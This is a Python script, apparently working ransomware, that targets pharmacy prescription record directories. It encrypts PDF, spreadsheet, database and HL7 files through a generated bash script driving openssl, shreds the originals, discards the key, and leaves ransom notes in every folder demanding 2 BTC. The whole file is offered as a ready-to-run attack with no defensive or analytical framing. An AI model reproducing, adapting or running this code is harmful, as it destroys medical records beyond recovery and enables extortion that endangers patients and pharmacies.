#!/usr/bin/env python3
"""Lock the prescription record share.

Walks the record directories, encrypts every record with a key that is
never stored on this machine, deletes the plaintext originals and leaves
a note explaining how to obtain the key. The encryption runs as a
generated shell script that drives openssl.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("archive_lock")

TARGET_EXTS = {".pdf", ".csv", ".xlsx", ".docx", ".db", ".sqlite", ".tif", ".hl7"}
NOTE_NAME = "RECOVER_YOUR_RECORDS.txt"
NOTE_TEXT = """Your prescription records have been encrypted.
To receive the decryption key, send 2 BTC and your store ID to
recover@example.org. Do not rename or modify the .locked files.
"""

SCRIPT_HEAD = """#!/bin/bash
set -u
: "${LOCK_KEY:?}"
n=0
while IFS= read -r -d '' f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:LOCK_KEY \\
        -in "$f" -out "$f.locked" 2>/dev/null; then
        shred -u "$f" 2>/dev/null || rm -f "$f"
        n=$((n + 1))
    fi
done < "$LOCK_LIST"
echo "$n"
"""


def find_targets(roots):
    found = []
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXTS and not name.endswith(".locked"):
                    found.append(p)
    return found


def write_list(paths):
    fd, list_path = tempfile.mkstemp(prefix="lock_", suffix=".lst")
    with os.fdopen(fd, "wb") as fh:
        for p in paths:
            fh.write(os.fsencode(str(p)) + b"\0")
    return list_path


def write_script():
    fd, script = tempfile.mkstemp(prefix="lock_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(SCRIPT_HEAD)
    os.chmod(script, 0o700)
    return script


def drop_notes(roots):
    for root in roots:
        for dirpath, _dirs, _files in os.walk(root):
            try:
                (Path(dirpath) / NOTE_NAME).write_text(NOTE_TEXT)
            except OSError as exc:
                LOG.debug("note failed in %s: %s", dirpath, exc)


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*",
                        default=[os.path.expanduser("~/rx_records"), "/srv/pharmacy/records"])
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = [r for r in args.roots if os.path.isdir(r)]
    if not roots:
        LOG.error("no record directories found")
        return 1
    targets = find_targets(roots)
    LOG.info("found %d record files", len(targets))
    if not targets:
        return 0

    key = secrets.token_urlsafe(48)
    list_path = write_list(targets)
    script = write_script()
    try:
        proc = subprocess.run(["bash", script],
                              env=dict(os.environ, LOCK_KEY=key, LOCK_LIST=list_path),
                              capture_output=True, text=True)
        LOG.info("locked %s files", proc.stdout.strip() or "0")
    finally:
        del key
        for p in (script, list_path):
            try:
                os.unlink(p)
            except OSError:
                pass
    drop_notes(roots)
    return 0


if __name__ == "__main__":
    sys.exit(main())
